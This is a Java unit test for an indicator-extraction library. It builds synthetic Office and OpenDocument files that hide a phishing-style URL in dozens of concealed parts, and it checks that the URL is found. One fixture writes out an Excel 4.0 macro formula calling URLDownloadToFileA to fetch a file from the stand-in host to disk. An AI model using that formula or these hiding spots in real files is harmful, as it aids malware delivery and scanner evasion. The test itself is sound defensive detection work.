package io.github.iocenrichment.attachment;

import static io.github.iocenrichment.attachment.Samples.files;
import static io.github.iocenrichment.attachment.Samples.zip;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** Where an indicator may stand in an Office file beside its visible text. */
class OfficePartsTest {
    private static final String URL = "https://pay.quill-otter.net/login";
    private static final String WORD = "<w:document xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main'"
            + " xmlns:v='urn:schemas-microsoft-com:vml'"
            + " xmlns:r='http://schemas.openxmlformats.org/officeDocument/2006/relationships' xmlns:a='http://schemas.openxmlformats.org/drawingml/2006/main'>"
            + "<w:body>%s</w:body></w:document>";

    private static byte[] word(String body, Object... more) {
        Map<String, byte[]> parts = files(more);
        parts.put("[Content_Types].xml", Samples.utf8("<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'/>"));
        parts.put("word/document.xml", Samples.utf8(WORD.formatted(body)));
        return zip(parts);
    }

    private static byte[] excel(Object... more) {
        Map<String, byte[]> parts = files(more);
        parts.put("[Content_Types].xml", Samples.utf8("<Types/>"));
        parts.putIfAbsent("xl/workbook.xml", Samples.utf8("<workbook><sheets/></workbook>"));
        return zip(parts);
    }

    private static String run(String text) {
        return "<w:r><w:t xml:space='preserve'>" + text + "</w:t></w:r>";
    }

    private static String box(String text) {
        return "<w:r><w:pict><v:shape><v:textbox><w:txbxContent><w:p>" + run(text) + "</w:p></w:txbxContent></v:textbox></v:shape></w:pict></w:r>";
    }

    private static String sheet(String cells, String behind) {
        return "<worksheet xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'><sheetData><row r='1'>" + cells + "</row></sheetData>" + behind
                + "</worksheet>";
    }

    /** Each with the address once. */
    static Stream<Arguments> places() {
        return Stream.of(
                arguments("core property", word("", "docProps/core.xml", "<p><k>" + URL + "</k></p>")),
                arguments("company", word("", "docProps/app.xml", "<Properties><Company>" + URL + "</Company></Properties>")),
                arguments("links of the properties", word("", "docProps/app.xml", "<Properties><HLinks><vt:v xmlns:vt='x'><vt:lpwstr>" + URL
                        + "</vt:lpwstr></vt:v></HLinks></Properties>")),
                arguments("custom property", word("", "docProps/custom.xml", "<P><property name='u'><l>" + URL + "</l></property></P>")),
                arguments("name of a custom property", word("", "docProps/custom.xml", "<P><property name='" + URL + "'/></P>")),
                arguments("custom XML, attribute", word("", "customXml/item7.xml", "<a><b href='" + URL + "'/></a>")),
                arguments("custom XML, comment", word("", "customXml/item7.xml", "<a><!-- " + URL + " --></a>")),
                arguments("document variable", word("", "word/settings.xml", "<w:settings xmlns:w='w'><w:docVars><w:docVar w:name='a' w:val='" + URL
                        + "'/></w:docVars></w:settings>")),
                arguments("attached template", word("", "word/_rels/settings.xml.rels", "<R><Relationship Target='" + URL + "' TargetMode='External'/></R>")),
                arguments("target without a mode", word("", "word/_rels/document.xml.rels", "<R><Relationship Target='" + URL + "'/></R>")),
                arguments("web extension", word("", "word/webextensions/webextension1.xml", "<we:w xmlns:we='w'><we:property name='u' value='&quot;" + URL
                        + "&quot;'/></we:w>")),
                arguments("comment", word("", "word/comments.xml", "<w:comments xmlns:w='w'><w:comment><w:p>" + run(URL) + "</w:p></w:comment></w:comments>")),
                arguments("author of a comment", word("", "word/people.xml", "<w15:people xmlns:w15='w'><w15:person w15:author='" + URL + "'/></w15:people>")),
                arguments("end note", word("", "word/endnotes.xml", "<w:endnotes xmlns:w='w'><w:endnote><w:p>" + run(URL) + "</w:p></w:endnote></w:endnotes>")),
                arguments("building block", word("", "word/glossary/document.xml", WORD.formatted("<w:p>" + run(URL) + "</w:p>"))),
                arguments("deleted text", word("<w:p><w:del>" + run("x").replace("w:t", "w:delText").replace(">x<", ">" + URL + "<") + "</w:del></w:p>")),
                arguments("deleted text over runs",
                        word("<w:p><w:del><w:r><w:delText>https://pay.quill-</w:delText></w:r><w:r><w:delText>otter.net/login</w:delText></w:r></w:del></w:p>")),
                arguments("text moved away", word("<w:p><w:moveFrom>" + run(URL) + "</w:moveFrom></w:p>")),
                arguments("deleted within a word", word("<w:p>" + run("https://pay.") + "<w:del><w:r><w:delText>quill-</w:delText></w:r></w:del><w:ins>"
                        + run("other-")
                        + "</w:ins>" + run("otter.net/login") + "</w:p>")),
                arguments("hidden text", word("<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>" + URL + "</w:t></w:r></w:p>")),
                arguments("deleted field code", word("<w:p><w:r><w:fldChar/><w:delInstrText>HYPERLINK \"" + URL
                        + "\"</w:delInstrText><w:fldChar/></w:r></w:p>")),
                arguments("picture by a field", word("<w:p><w:fldSimple w:instr='INCLUDEPICTURE \"" + URL + "\" \\d'/></w:p>")),
                arguments("tool tip", word("<w:p><w:hyperlink w:tooltip='" + URL + "'>" + run("x") + "</w:hyperlink></w:p>")),
                arguments("picture of a shape", word("<w:p><w:r><w:pict><v:shape><v:imagedata src='" + URL + "'/></v:shape></w:pict></w:r></w:p>")),
                arguments("alternative text", word("<w:p><wp:docPr xmlns:wp='p' descr='" + URL + "'/></w:p>")),
                arguments("control", word("<w:p><w:sdt><w:sdtPr><w:alias w:val='" + URL + "'/></w:sdtPr></w:sdt></w:p>")),
                arguments("ActiveX property", word("", "word/activeX/activeX1.xml", "<ax:ocx xmlns:ax='a'><ax:ocxPr ax:name='URL' ax:value='" + URL
                        + "'/></ax:ocx>")),
                arguments("embedded page", word("", "word/afchunk1.htm", "<html><a href='" + URL + "'>x</a></html>")),
                arguments("text box behind text", word("<w:p>" + run(URL) + box("http://box.quill-otter.net/y") + "</w:p>")),
                arguments("text box within a word", word("<w:p>" + run("https://pay.quill-") + box("next.quill-otter.net") + run("otter.net/login")
                        + "</w:p>")),
                arguments("text box in a text box", word("<w:p>" + run("a") + box("b</w:t></w:r>" + box(URL) + "<w:r><w:t>c") + "</w:p>")),
                arguments("table in a text box", word("<w:p>" + run("a") + box("x</w:t></w:r></w:p><w:tbl><w:tr><w:tc><w:p>" + run(URL)
                        + "</w:p></w:tc><w:tc><w:p>" + run("d")
                        + "</w:p></w:tc></w:tr></w:tbl><w:p><w:r><w:t>c") + "</w:p>")),
                arguments("shape on a sheet", excel("xl/drawings/drawing1.xml", "<d:x xmlns:d='d' xmlns:a='a'><a:p><a:r><a:t>" + URL
                        + "</a:t></a:r></a:p></d:x>")),
                arguments("old shape on a sheet", excel("xl/drawings/vmlDrawing1.vml", "<xml><v:shape xmlns:v='v' href='" + URL + "'/></xml>")),
                arguments("defined name", excel("xl/workbook.xml", "<workbook><definedNames><definedName name='u'>\"" + URL
                        + "\"</definedName></definedNames></workbook>")),
                arguments("comment of a defined name", excel("xl/workbook.xml", "<workbook><definedNames><definedName name='u' comment='" + URL
                        + "'>1</definedName></definedNames></workbook>")),
                arguments("joined name", excel("xl/workbook.xml",
                        "<workbook><definedNames><definedName"
                        + " name='u'>\"https://pay.quill\"&amp;\"-otter.net/login\"</definedName></definedNames></workbook>")),
                arguments("macro sheet", excel("xl/macrosheets/sheet1.xml", sheet("<c r='A1'><f>CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"" + URL
                        + "\",\"c:\\a.exe\")</f><v>0</v></c>", ""))),
                arguments("macro sheet, joined", excel("xl/macrosheets/sheet1.xml",
                        sheet("<c r='A1'><f>CALL(\"ht\"&amp;\"tps://pay.\"&amp;CHAR(113)&amp;\"uill-otter.net/login\")</f></c>", ""))),
                arguments("formula, CONCATENATE", excel("xl/worksheets/sheet1.xml",
                        sheet("<c r='A1'><f>HYPERLINK(CONCATENATE(\"https://pay.quill\",\"-otter.net/login\"))</f></c>", ""))),
                arguments("data validation", excel("xl/worksheets/sheet1.xml", sheet("", "<dataValidations><dataValidation prompt='" + URL
                        + "'/></dataValidations>"))),
                arguments("formula of a validation", excel("xl/worksheets/sheet1.xml", sheet("", "<dataValidations><dataValidation><formula1>\"" + URL
                        + "\"</formula1></dataValidation></dataValidations>"))),
                arguments("footer of a sheet", excel("xl/worksheets/sheet1.xml", sheet("", "<headerFooter><oddFooter>&amp;C&amp;12" + URL
                        + "&amp;Rpage &amp;P</oddFooter></headerFooter>"))),
                arguments("footer of the first page", excel("xl/worksheets/sheet1.xml", sheet("", "<headerFooter><firstFooter>&amp;L" + URL
                        + "</firstFooter></headerFooter>"))),
                arguments("web query", excel("xl/connections.xml", "<connections><connection name='c'><webPr url='" + URL + "'/></connection></connections>")),
                arguments("workbook outside", excel("xl/externalLinks/_rels/externalLink1.xml.rels", "<R><Relationship Target='" + URL
                        + "' TargetMode='External'/></R>")),
                arguments("text of no cell", excel("xl/sharedStrings.xml", "<sst><si><t>" + URL + "</t></si></sst>", "xl/worksheets/sheet1.xml", sheet("",
                        ""))),
                arguments("text over runs of a cell", excel("xl/sharedStrings.xml",
                        "<sst><si><r><t>https://pay.quill</t></r><r><t>-otter.net/login</t></r></si></sst>",
                        "xl/worksheets/sheet1.xml", sheet("<c r='A1' t='s'><v>0</v></c>", ""))),
                arguments("threaded comment", excel("xl/threadedComments/threadedComment1.xml", "<T><threadedComment><text>" + URL
                        + "</text></threadedComment></T>")),
                arguments("menu", excel("customUI/customUI.xml", "<customUI><button label='" + URL + "'/></customUI>")),
                arguments("slide master", zip(files("[Content_Types].xml", "<Types/>", "ppt/slideMasters/slideMaster1.xml", "<p xmlns:a='a'><a:p><a:r><a:t>"
                        + URL + "</a:t></a:r></a:p></p>"))),
                arguments("notes of a slide", zip(files("[Content_Types].xml", "<Types/>", "ppt/notesSlides/notesSlide1.xml", "<p xmlns:a='a'><a:p><a:r><a:t>"
                        + URL + "</a:t></a:r></a:p></p>"))),
                arguments("document of Word 2003",
                        Samples.utf8("<?xml version='1.0'?><w:wordDocument xmlns:w='http://schemas.microsoft.com/office/word/2003/wordml'>"
                        + "<w:body><w:p>" + run("https://pay.quill-") + run("otter.net/login") + "</w:p></w:body></w:wordDocument>")),
                arguments("package in one file",
                        Samples.utf8("<?xml version='1.0'?><pkg:package xmlns:pkg='http://schemas.microsoft.com/office/2006/xmlPackage'><pkg:part>"
                        + "<pkg:xmlData>" + WORD.formatted("<w:p>" + run("https://pay.quill-") + run("otter.net/login") + "</w:p>")
                                + "</pkg:xmlData></pkg:part></pkg:package>")),
                arguments("OpenDocument properties", openDocument("meta.xml", "<o:document-meta xmlns:o='o'><o:user-defined>" + URL
                        + "</o:user-defined></o:document-meta>")),
                arguments("OpenDocument page header", openDocument("styles.xml", "<o:document-styles xmlns:o='o' xmlns:t='t'><t:p>" + URL
                        + "</t:p></o:document-styles>")),
                arguments("OpenDocument text box", openDocument("content.xml", "<o:document-content xmlns:o='o' xmlns:t='t' xmlns:d='d'><t:p>" + URL
                        + "<d:frame><d:text-box><t:p>http://box.quill-otter.net/y</t:p></d:text-box></d:frame></t:p></o:document-content>")),
                arguments("OpenDocument comment", openDocument("content.xml",
                        "<o:document-content xmlns:o='o' xmlns:t='t'><t:p>https://pay.quill-<o:annotation><t:p>n.quill-otter.net</t:p>"
                        + "</o:annotation>otter.net/login</t:p></o:document-content>")));
    }

    private static byte[] openDocument(String part, String content) {
        return zip(files("mimetype", "application/vnd.oasis.opendocument.text", "META-INF/manifest.xml", "<m/>", part, content));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("places")
    void isFoundWhole(String place, byte[] content) {
        Found found = Found.in("file", content);

        assertThat(found.indicators()).contains("url " + URL, "domain pay.quill-otter.net");
        assertThat(found.indicators()).filteredOn(each -> !each.contains("quill-otter.net")).isEqualTo(place.contains("within a word")
                && place.startsWith("deleted")
                ? List.of("domain pay.other-otter.net", "url https://pay.other-otter.net/login") : List.of());
        assertThat(found.indicators()).noneMatch(each -> each.contains("loginhttp"));
        assertThat(found.unread()).isEmpty();
    }
}
